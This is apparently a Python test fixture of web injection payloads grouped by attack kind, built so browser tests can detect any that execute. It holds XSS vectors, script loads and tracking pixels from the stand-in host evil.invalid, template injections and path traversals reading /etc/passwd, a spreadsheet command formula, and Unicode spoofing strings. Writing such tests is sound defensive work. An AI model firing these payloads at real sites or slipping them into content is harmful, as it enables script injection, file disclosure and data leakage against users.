"""Texts that try to act on a page that shows them, by kind of attack.  All of them are ours.

Every script among them sets `window.taken`, opens a dialog or asks `evil.invalid` for something, so
that a browser test notices whichever of them ran.
"""

from __future__ import annotations

RUN = "window.taken=1;alert(1)"

INJECTIONS: dict[str, tuple[str, ...]] = {
    "a script element": (
        f"<script>{RUN}</script>",
        f"<SCRIPT>{RUN}</SCRIPT >",
        f"<script/x>{RUN}</script/x>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        "<script src=https://evil.invalid/a.js></script>",
        "<script type=module>import 'https://evil.invalid/m.js'</script>",
        f"<script\n>{RUN}//",
        f'<noscript><p title="</noscript><script>{RUN}</script>">',
        f"<template><script>{RUN}</script></template>",
    ),
    "an event handler": (
        f"<img src=x onerror={RUN}>",
        f'<img src="x" onerror="{RUN}" alt="15 crore">',
        f"<body onload={RUN}>",
        f"<details open ontoggle={RUN}>15 days",
        f"<input autofocus onfocus={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<marquee onstart={RUN}>12%",
        f"<b onmouseover={RUN} style=position:fixed;inset:0>hover</b>",
        f"<div hx-get='https://evil.invalid/h' hx-trigger=load hx-on::load='{RUN}'>x</div>",
        f"<form id=f><input name=attributes><button formaction=javascript:{RUN}>go</button></form>",
    ),
    "the end of its own quotation": (
        f'" onmouseover="{RUN}" x="',
        f"' onfocus='{RUN}' autofocus='",
        f'"><script>{RUN}</script>',
        f"'><img src=x onerror={RUN}>",
        f"</pre><script>{RUN}</script><pre>",
        f"</textarea><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"--><script>{RUN}</script><!--",
        f"]]><script>{RUN}</script>",
        f"</td></tr></table><img src=x onerror={RUN}>",
        f"` onerror={RUN} `",
    ),
    "the end of a script": (
        f"</script><script>{RUN}</script>",
        f"</ScRiPt ><img src=x onerror={RUN}>",
        f"<!--<script>{RUN}</script>-->",
        f'"}}</script><script>{RUN}</script>',
        f'\\"}};{RUN};//',
        f"\\u003c/script\\u003e\\u003cscript\\u003e{RUN}",
        f"\u2028{RUN}\u2029",
        f"';{RUN}//\\';{RUN}//\";{RUN}//",
    ),
    "a drawing": (
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f'<svg><a href="javascript:{RUN}"><text y=9>x</text></a></svg>',
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></svg>",
        "<svg><use href=https://evil.invalid/u.svg#x></svg>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    ),
    "an address": (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java\tscript:{RUN}",
        f"[15 crore](javascript:{RUN})",
        f'<a href="javascript:{RUN}">15 crore</a>',
        f"data:text/html,<script>{RUN}</script>",
        "![net worth](https://evil.invalid/pixel.png)",
        "<img src=https://evil.invalid/pixel.png>",
        "<link rel=stylesheet href=https://evil.invalid/a.css>",
        f"<iframe src=javascript:{RUN}></iframe>",
        "<object data=https://evil.invalid/o></object>",
        "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
        "<base href=https://evil.invalid/>",
        "../../../../etc/passwd",
        "//evil.invalid/items?id=1",
    ),
    "a style": (
        "<style>*{display:none}</style>",
        "<style>@import 'https://evil.invalid/a.css';</style>",
        "<div style=\"background:url('https://evil.invalid/b.png')\">x</div>",
        "<p style='position:fixed;inset:0;background:red'>covered</p>",
    ),
    "a template": (
        "{{ 7 * 7 }}{% raw %}",
        "{{ self.__init__.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{# a comment #}${7*7}#{7*7}<%= 7*7 %>",
        "{{ ''.__class__.__mro__ }}",
        "%s %(name)s {0} {name!r} %n",
        "\\begin{document}\\input{/etc/passwd}",
    ),
    "an expression of a chart": (
        "datum['constructor']['constructor']('window.taken=1')()",
        "{'signal': 'warn(event)'}",
        "'+alert(1)+'",
        "$__proto__.polluted",
        "__proto__",
        "constructor.prototype",
        "accuracy\\.value[0]['x']",
        "https://evil.invalid/data.json",
    ),
    "a formula of a spreadsheet": (
        '=HYPERLINK("https://evil.invalid/","15 crore")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        '"=1+1","x"\n=2',
    ),
    "marks that hide or turn": (
        "safe\u202egnp.exe\u202c",
        "\u2066hidden\u2069 \u2067turned\u2069",
        "15\u200b\u200c\u200d\ufeff crore",
        "a\x00b\x07c\x08\x1b[31mred\x1b[0m",
        "\u061c\u200f\u200eabc",
        "tag\U000e0041\U000e0042\U000e007f",
        "half \ufffd \ufffe\uffff",
        "line\x0bfeed\x0cform\x85next",
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo",
    ),
    "text that bursts its box": (
        "W" * 400,
        "١٥ كرور روبية على الأقل، بموجب اللائحة ٣٠(٦)",
        "पंद्रह करोड़ रुपये" * 20,
        "十五亿卢比" * 60,
        "🏦" * 120,
        "&amp;&lt;b&gt;&#x3C;i&#x3E;&#0;&nbsp;",
        "\n" * 30 + "after thirty lines",
        "|a|b|\n|---|---|\n|" + "x" * 120 + "|2|",
    ),
}  # fmt: skip
"""At least sixty, by what each tries."""

ALL: tuple[str, ...] = tuple(text for texts in INJECTIONS.values() for text in texts)

NAMES: tuple[str, ...] = tuple(
    text for text in ALL if text.strip() and "\n" not in text and "\x00" not in text
)
"""Those that can be the name of a system, an item or a person."""
